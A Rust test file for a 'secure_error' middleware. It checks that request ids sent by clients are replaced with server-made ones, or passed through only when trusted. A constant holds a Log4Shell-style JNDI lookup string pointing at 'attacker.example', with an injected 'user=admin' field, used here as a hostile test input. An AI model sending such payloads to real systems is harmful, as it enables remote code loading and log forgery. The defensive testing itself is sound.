//! `RequestId` of tower-http, which handlers and other middleware read (feature `tower-http`).

use crate::leaky;
use crate::server::{Answer, request, within};
use axum::extract::Request;
use axum::middleware::{self, Next};
use axum::response::Response;
use axum::{Extension, Router, routing};
use secure_error::SecureErrorLayer;
use serde_json::Value;
use tower_http::request_id::{MakeRequestUuid, PropagateRequestIdLayer, RequestId, SetRequestIdLayer};

const RAW: &str = "${jndi:ldap://attacker.example/x} user=admin";
const TRUSTING: SecureErrorLayer = SecureErrorLayer::new().trust_incoming_request_id();

/// Answers with the id that a handler sees.
async fn seen(id: Option<Extension<RequestId>>) -> String {
    id.map_or_else(String::new, |Extension(id)| {
        id.header_value().to_str().unwrap().to_owned()
    })
}

fn routes() -> Router {
    leaky::router().route("/seen", routing::get(seen))
}

fn set() -> SetRequestIdLayer<MakeRequestUuid> {
    SetRequestIdLayer::x_request_id(MakeRequestUuid)
}

fn propagate() -> PropagateRequestIdLayer {
    PropagateRequestIdLayer::x_request_id()
}

/// What a handler sees, an error, a panic; each asked for under this id.
fn ask(router: Router, id: &str) -> (Vec<Answer>, Vec<Value>) {
    let header = format!("X-Request-Id: {id}");
    within(
        router,
        &["/seen", "/text", "/panic"].map(|path| request("GET", path, &[header.as_bytes()])),
    )
}

#[test]
fn without_the_layer_the_raw_value_of_a_client_is_everywhere() {
    let (answers, _) = within(
        routes().layer(propagate()).layer(set()),
        &[request("GET", "/seen", &[format!("X-Request-Id: {RAW}").as_bytes()])],
    );
    assert_eq!((answers[0].id(), answers[0].body.as_slice()), (RAW, RAW.as_bytes()));
}

fn assert_each_has_one_id_of_ours(answers: &[Answer], records: &[Value]) {
    assert_eq!(answers[0].body, answers[0].id().as_bytes(), "what the handler sees");
    assert_eq!(records.len(), 2, "{records:?}");
    for (answer, record) in answers[1..].iter().zip(records) {
        assert_eq!(answer.json()["request_id"], answer.id());
        assert_eq!(record["fields"]["request_id"], answer.id());
    }
    for answer in answers {
        assert_eq!(answer.id().len(), 32);
        assert!(!answer.text().contains("jndi"), "{answer:?}");
    }
    assert!(!format!("{records:?}").contains("jndi"), "{records:?}");
}

#[test]
fn a_handler_sees_the_id_of_the_log_and_never_what_a_client_wrote() {
    for layer in [SecureErrorLayer::new(), TRUSTING] {
        let around = routes().layer(layer.clone()).layer(propagate()).layer(set());
        let inside = routes().layer(propagate()).layer(set()).layer(layer.clone());
        let alone = routes().layer(layer);
        for router in [around, inside, alone] {
            let (answers, records) = ask(router, RAW);
            assert_each_has_one_id_of_ours(&answers, &records);
        }
    }
}

#[test]
fn the_older_major_of_tower_http_has_the_same_id() {
    use tower_http_06::request_id::{MakeRequestUuid, RequestId, SetRequestIdLayer};

    async fn seen(Extension(id): Extension<RequestId>) -> String {
        id.header_value().to_str().unwrap().to_owned()
    }
    let routes = || leaky::router().route("/seen", routing::get(seen));
    let set = SetRequestIdLayer::x_request_id(MakeRequestUuid);
    let header = format!("X-Request-Id: {RAW}");
    let (bare, _) = within(
        routes().layer(set.clone()),
        &[request("GET", "/seen", &[header.as_bytes()])],
    );
    assert_eq!(bare[0].body, RAW.as_bytes(), "without the layer the raw value is there");

    let around = routes().layer(SecureErrorLayer::new()).layer(set.clone());
    let inside = routes().layer(set).layer(SecureErrorLayer::new());
    let alone = routes().layer(SecureErrorLayer::new());
    for router in [around, inside, alone] {
        let (answers, records) = ask(router, RAW);
        assert_each_has_one_id_of_ours(&answers, &records);
    }
}

#[test]
fn a_valid_id_of_a_client_is_that_of_the_request_only_if_it_is_trusted() {
    let (answers, records) = ask(routes().layer(SecureErrorLayer::new()).layer(set()), "client-7");
    assert_each_has_one_id_of_ours(&answers, &records);
    assert_eq!(records[0]["fields"]["client_request_id"], "client-7");

    let (answers, records) = ask(routes().layer(TRUSTING).layer(set()), "client-7");
    assert_eq!(answers[0].body, b"client-7");
    assert!(answers.iter().all(|answer| answer.id() == "client-7"));
    assert!(
        records
            .iter()
            .all(|record| record["fields"]["request_id"] == "client-7")
    );
}

#[test]
fn an_id_that_another_layer_has_made_is_taken_where_it_is_trusted() {
    let (answers, _) = within(routes().layer(TRUSTING).layer(set()), &[request("GET", "/seen", &[])]);
    assert_eq!(answers[0].id().len(), 36, "a UUID with hyphens");
    assert_eq!(answers[0].body, answers[0].id().as_bytes());
}

#[test]
fn a_name_of_another_kind_does_not_get_into_the_extension() {
    let other = SetRequestIdLayer::new("x-correlation-id".parse().unwrap(), MakeRequestUuid);
    let raw = format!("X-Correlation-Id: {RAW}");
    for router in [
        routes().layer(SecureErrorLayer::new()).layer(other.clone()),
        routes().layer(other).layer(SecureErrorLayer::new()),
    ] {
        let (answers, _) = within(router, &[request("GET", "/seen", &[raw.as_bytes()])]);
        assert_eq!(answers[0].body, answers[0].id().as_bytes());
    }
}

#[test]
fn an_answer_carries_the_id_for_whoever_is_around_the_layer() {
    async fn copy(request: Request, next: Next) -> Response {
        let mut answer = next.run(request).await;
        let id = answer.extensions().get::<RequestId>().unwrap().header_value().clone();
        answer.headers_mut().insert("x-copied", id);
        answer
    }
    let router = routes().layer(SecureErrorLayer::new()).layer(middleware::from_fn(copy));
    let (answers, _) = ask(router, "client-7");
    for answer in answers {
        assert_eq!(answer.header("x-copied"), Some(answer.id()));
    }
}
